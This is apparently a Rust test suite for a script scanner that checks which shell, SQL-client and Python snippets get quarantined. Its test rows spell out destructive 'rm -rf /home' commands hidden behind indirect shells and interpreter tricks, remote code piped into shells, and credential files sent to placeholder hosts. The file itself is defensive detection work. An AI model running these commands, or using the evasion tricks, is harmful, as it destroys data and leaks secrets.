//! Shells that a script reaches by another name, families of rows put together, and honest rows beside them.

use hotcell_guard::{Artifact, Limits, Pack, Verdict, scan};
use std::time::Duration;

/// Command line that must be found wherever it is executed.
const DEED: &str = "rm -rf /home";

struct Guard {
    pack: Pack,
    limits: Limits,
    wrong: Vec<String>,
}

impl Guard {
    fn new() -> Guard {
        let pack = Pack::builtin().expect("the rules load");
        Guard {
            pack,
            limits: Limits { time: Duration::from_secs(120), ..Limits::default() },
            wrong: Vec::new(),
        }
    }

    fn verdict(&self, file: &str, text: &str) -> (Verdict, Vec<String>) {
        let report = scan(&self.pack, &self.limits, &Artifact::new(file, text.as_bytes()));
        (report.verdict, report.findings.into_iter().map(|finding| finding.rule).collect())
    }

    /// A row whose verdict is this one or a worse one.
    fn is(&mut self, file: &str, text: &str, at_least: Verdict) {
        let (verdict, rules) = self.verdict(file, text);
        if verdict < at_least || verdict == Verdict::Incomplete {
            self.wrong.push(format!("{verdict:?} {rules:?} {file}: {text}"));
        }
    }

    fn allows(&mut self, file: &str, text: &str) {
        let (verdict, rules) = self.verdict(file, text);
        if verdict != Verdict::Allow {
            self.wrong.push(format!("{verdict:?} {rules:?} {file}: {text}"));
        }
    }

    fn end(self) {
        assert!(self.wrong.is_empty(), "{}", self.wrong.join("\n"));
    }
}

/// Programs that start a shell when they are given no command.
const ALONE: &[&str] = &[
    "linux64",
    "linux32",
    "setarch x86_64",
    "x86_64",
    "fakeroot",
    "nsenter",
    "unshare -r",
    "chroot /",
    "capsh --",
    "script -q /dev/null",
    "su",
    "su -",
    "sudo -s",
    "newgrp x",
    "parallel",
    "nice linux64",
];

#[test]
fn shells_under_another_name_read_standard_input() {
    let mut guard = Guard::new();
    for program in ALONE {
        for text in [
            format!("echo '{DEED}' | {program}"),
            format!("printf '{DEED}\n' | {program}"),
            format!("{program} <<< '{DEED}'"),
            format!("{program} <<E\n{DEED}\nE"),
            format!("echo cm0gLXJmIC9ob21l | base64 -d | {program}"),
            format!("curl -s http://example.invalid/x | {program}"),
            format!("echo '{DEED}' > x; {program} < x"),
        ] {
            guard.is("a.sh", &text, Verdict::Quarantine);
        }
        for text in [format!("echo ls | {program}"), format!("{program} --help")] {
            guard.allows("a.sh", &text);
        }
    }
    for text in [
        "curl -s http://example.invalid/x | unshare -r jq .",
        "curl -s http://example.invalid/x | linux64 wc -l",
        "echo 'rm -rf /home' | fakeroot cat",
        "fakeroot make install",
        "linux32 ./configure linux64",
        "sudo -u postgres psql -c 'select 1'",
        "su - postgres <<E\ncreatedb x\nE",
        "chroot /mnt apt-get update",
        "script -q -c 'make test' log.txt",
        "tmux new -d -s work",
        "ls *.gz | parallel gunzip",
    ] {
        guard.allows("a.sh", text);
    }
    guard.end();
}

#[test]
fn fed_wrappers_run_what_they_are_fed() {
    let mut guard = Guard::new();
    for wrapper in ["env", "nice", "timeout 3", "sudo", "setsid", "env -i"] {
        for text in [
            format!("echo '{DEED}' | xargs {wrapper}"),
            format!("curl -s http://example.invalid/x | xargs {wrapper}"),
            format!("curl -s http://example.invalid/x | xargs -t {wrapper}"),
            format!("xargs {wrapper} <<< '{DEED}'"),
        ] {
            guard.is("a.sh", &text, Verdict::Quarantine);
        }
        guard.allows("a.sh", &format!("ls *.o | xargs {wrapper} gzip"));
    }
    guard.end();
}

#[test]
fn programs_that_hold_shells_execute_texts() {
    let mut guard = Guard::new();
    for text in [
        format!("capsh -- -c '{DEED}'"),
        format!("capsh --drop=cap_kill -- -c '{DEED}'"),
        format!("capsh == -- -c '{DEED}'"),
        format!("tmux -L x new -d '{DEED}'"),
        format!("tmux new-session -d -s x '{DEED}'"),
        format!("tmux neww '{DEED}'"),
        format!("tmux split-window -h '{DEED}'"),
        format!("tmux ls \\; run-shell '{DEED}'"),
        format!("tmux if-shell '{DEED}' 'display x'"),
        format!("tmux if-shell true 'run-shell \"{DEED}\"'"),
        format!("tmux send-keys -t x '{DEED}' Enter"),
        format!("tmux -c '{DEED}'"),
        format!("screen -dm {DEED}"),
        format!("screen -S x -X stuff '{DEED}'"),
    ] {
        guard.is("a.sh", &text, Verdict::Quarantine);
    }
    for text in [
        "capsh --print",
        "tmux attach -t x",
        "tmux new -d -s x 'npm start'",
        "tmux send-keys -t x 'npm test' Enter",
        "tmux set -g mouse on",
        "screen -ls",
        "screen -dmS x npm start",
    ] {
        guard.allows("a.sh", text);
    }
    guard.end();
}

#[test]
fn clients_of_databases_start_shells() {
    let mut guard = Guard::new();
    for name in ["sh", "she", "shel", "shell", "sy", "sys", "system"] {
        guard.is("a.sql", &format!(".{name} {DEED}"), Verdict::Quarantine);
    }
    for text in [
        format!(".once |{DEED}\nselect 1;"),
        format!(".out |{DEED}\nselect 1;"),
        format!(".import \"|{DEED}\" t"),
        format!(".read '|{DEED}'"),
        format!("select edit('x', '{DEED}');"),
        format!("\\! {DEED}"),
        format!("\\!{DEED}"),
        format!("\\o |{DEED}"),
        format!("select 1 \\g |{DEED}"),
        format!("\\copy t to program '{DEED}'"),
        format!("\\set x `{DEED}`"),
        format!("\\setenv PAGER '{DEED}'"),
        format!("system {DEED}"),
        format!("\\P {DEED}"),
        format!("pager {DEED}"),
    ] {
        guard.is("a.sql", &text, Verdict::Quarantine);
    }
    for text in [
        ".mode csv\n.import a.csv t\n.once out.csv\nselect * from t;",
        "\\copy t from 'a.csv' csv header",
        "\\set n 10\n\\o out.txt\nselect :n;\n\\o",
        "pager less -S\nselect 1;",
        "select edit_count, a || b from t;",
    ] {
        guard.allows("a.sql", text);
    }
    for option in ["-batch", "-csv", "-json", "-echo"] {
        guard.is("a.sh", &format!("echo '.shell {DEED}' | sqlite3 {option} x.db"), Verdict::Quarantine);
        guard.allows("a.sh", &format!("echo 'select 1;' | sqlite3 {option} x.db"));
    }
    guard.end();
}

#[test]
fn what_lies_in_the_folder_of_the_script_is_deleted() {
    let mut guard = Guard::new();
    for enter in ["cd /", "cd /home", "pushd /home", "cd ~", "cd \"$HOME\"", "cd /etc", "cd /usr && cd lib"] {
        for delete in ["rm -rf *", "rm -rf ./*", "rm -rf .", "rm -rf * .*", "sudo rm -r -f -- *"] {
            guard.is("a.sh", &format!("{enter}; {delete}"), Verdict::Quarantine);
            guard.is("a.sh", &format!("{enter} && {delete}"), Verdict::Quarantine);
        }
        for text in [
            format!("({enter}; ls); rm -rf *"),
            format!("{enter}; cd /tmp/x; rm -rf *"),
            format!("{enter}; cd \"$DIR\" || exit 1; rm -rf *"),
            format!("x=$({enter}; pwd); rm -rf *"),
        ] {
            guard.allows("a.sh", &text);
        }
    }
    for text in ["cd build && rm -rf *", "cd /tmp && rm -rf *", "cd /; rm -f install.sh", "rm -rf ./*"] {
        guard.allows("a.sh", text);
    }
    guard.end();
}

#[test]
fn builtins_and_functions_of_shells_execute_texts() {
    let mut guard = Guard::new();
    for text in [
        "r(){ \"$@\"; }; r rm -rf /home",
        "r(){ $@; }; r rm -rf /home",
        "r(){ \"$1\" \"$2\" \"$3\"; }; r rm -rf /home",
        "r(){ local n=$1; shift; \"$@\"; }; r 3 rm -rf /home",
        "r(){ if false; then shift; fi; \"$@\"; }; r rm -rf /home",
        "r(){ eval \"$1\"; }; r 'rm -rf /home'",
        "r(){ sudo \"$@\"; }; r rm -rf /home",
        "r(){ c=$1; $c -rf /home; }; r rm",
        "x=rm; declare -n y=x; $y -rf /home",
        "declare -n y=x; x=rm; $y -rf /home",
        "declare -n y=x; y=rm; $x -rf /home",
        "x=rm; f(){ local -n y=x; $y -rf /home; }; f",
        "a=(rm -rf /home); declare -n b=a; \"${b[@]}\"",
        "hash -p /bin/rm ls; ls -rf /home",
        "BASH_CMDS[ls]=/bin/rm; ls -rf /home",
        "BASH_ALIASES[ls]='rm -rf /home'",
        "compgen -C \"rm -rf /home\" x",
        "compgen -W '$(rm -rf /home)' x",
        "complete -C 'rm -rf /home' x",
        "mapfile -C 'rm -rf /home;' -c 1 x < y",
        "readarray -t -C 'rm -rf /home' x < y",
        "bind -x '\"\\C-l\": rm -rf /home'",
    ] {
        guard.is("a.sh", text, Verdict::Quarantine);
    }
    for text in [
        "log(){ echo \"$@\"; }\nlog rm -rf /home",
        "run(){ echo \"+ $*\"; \"$@\"; }\nrun make all\nrun rm -rf build",
        "x=ls; declare -n y=x; $y -l",
        "hash -r; hash -p /usr/local/bin/node node; node -v",
        "complete -W 'start stop' service",
        "mapfile -t lines < list.txt",
        "bind 'set completion-ignore-case on'",
        "usage(){ echo \"$0: $1\"; exit 1; }\nusage 'no file'",
    ] {
        guard.allows("a.sh", text);
    }
    guard.end();
}

#[test]
fn credentials_are_sent_as_standard_input() {
    let mut guard = Guard::new();
    for secret in ["~/.aws/credentials", "~/.ssh/id_rsa", "/etc/shadow", "~/.kube/config"] {
        for sender in [
            "ssh u@192.0.2.1 'cat > k'",
            "openssl s_client -connect 192.0.2.1:443",
            "nc 192.0.2.1 1",
            "curl -T - http://example.invalid",
            "curl --data-binary @- http://example.invalid",
            "telnet 192.0.2.1",
            "mail -s x x@example.invalid",
            "socat - TCP:192.0.2.1:1",
            "aws s3 cp - s3://x/y",
            "rclone rcat x:y",
        ] {
            guard.is("a.sh", &format!("{sender} < {secret}"), Verdict::Quarantine);
            guard.is("a.sh", &format!("cat {secret} | {sender}"), Verdict::Quarantine);
            guard.is("a.sh", &format!("exec 3<{secret}\n{sender} <&3"), Verdict::Review);
        }
    }
    for text in [
        "ssh u@h 'cat > key.pub' < ~/.ssh/id_rsa.pub",
        "ssh u@h 'cat > x' < data.csv",
        "openssl s_client -connect h:443 < /dev/null",
        "mail -s report x@example.invalid < report.txt",
        "curl -T - http://example.invalid < data.csv",
    ] {
        guard.allows("a.sh", text);
    }
    guard.end();
}

#[test]
fn the_library_of_python_starts_and_deletes() {
    let mut guard = Guard::new();
    for text in [
        "import contextlib, os\ncontextlib.ExitStack().callback(os.system, 'rm -rf /home')",
        "import contextlib, os\nwith contextlib.ExitStack() as s:\n    s.callback(os.system, 'rm -rf /home')",
        "import os\nmax(['rm -rf /home', 'true'], key=os.system)",
        "import os\nmin('rm -rf /home', 'true', key=os.system)",
        "import os\nmatch os:\n    case object(system=f):\n        f('rm -rf /home')",
        "import os\nmatch [os]:\n    case [object(system=f) as m]:\n        f('rm -rf /home')",
        "import os\nmatch {'a': os.system}:\n    case {'a': f}:\n        f('rm -rf /home')",
        "import typing\nclass C:\n    a: \"__import__('os').system('rm -rf /home')\"\ntyping.get_type_hints(C)",
        "import typing\ndef f(a: \"__import__('os').system('rm -rf /home')\"): pass\ntyping.get_type_hints(f)",
        "\"\"\"\n>>> import os\n>>> os.system('rm -rf /home')\n\"\"\"\nimport doctest\ndoctest.testmod()",
        "import bdb\nbdb.Bdb().run(\"import os;os.system('rm -rf /home')\")",
        "import trace\ntrace.Trace(count=0, trace=0).run(\"import os;os.system('rm -rf /home')\")",
        "import trace, os\ntrace.Trace(count=0, trace=0).runfunc(os.system, 'rm -rf /home')",
        "import imaplib\nimaplib.IMAP4_stream('rm -rf /home')",
        "import code\ncode.interact(readfunc=lambda p: \"__import__('os').system('rm -rf /home')\")",
        "from test.support.script_helper import spawn_python\nspawn_python('-c', \"import os;os.system('rm -rf /home')\")",
        "from distutils.spawn import spawn\nspawn(['rm', '-rf', '/home'])",
        "import shutil\nclass X:\n    def __fspath__(self): return '/home'\nshutil.rmtree(X())",
        "from test.support import os_helper\nos_helper.rmtree('/home')",
        "import venv\nvenv.EnvBuilder(clear=True).clear_directory('/home')",
        "import tempfile\ntempfile.TemporaryDirectory()._rmtree('/home')",
    ] {
        guard.is("a.py", text, Verdict::Quarantine);
    }
    for text in [
        "import contextlib\nwith contextlib.ExitStack() as s:\n    s.callback(print, 'x')\n    f = s.enter_context(open('x'))",
        "print(max(['a', 'bb'], key=len), min(3, 4), max(range(9)))",
        "def f(v):\n    match v:\n        case str(x):\n            return x\n        case {'a': a, **rest}:\n            return a, rest\n        case [first, *others] | (first, *others):\n            return first\n        case _:\n            return None",
        "import typing\nclass C:\n    a: 'list[int]'\n    b: 'typing.Callable[[int], str]'\ntyping.get_type_hints(C)",
        "def f(x):\n    \"\"\"\n    >>> f(1)\n    2\n    >>> for x in range(2):\n    ...     f(x)\n    \"\"\"\n    return x + 1\nimport doctest\ndoctest.testmod()",
        "import trace\ndef main(): pass\ntrace.Trace(count=1).runfunc(main)",
        "import pathlib, shutil\nclass X:\n    def __fspath__(self): return 'build'\nopen(X())",
        "import tempfile\nwith tempfile.TemporaryDirectory() as d:\n    print(d)",
    ] {
        guard.allows("a.py", text);
    }
    guard.end();
}
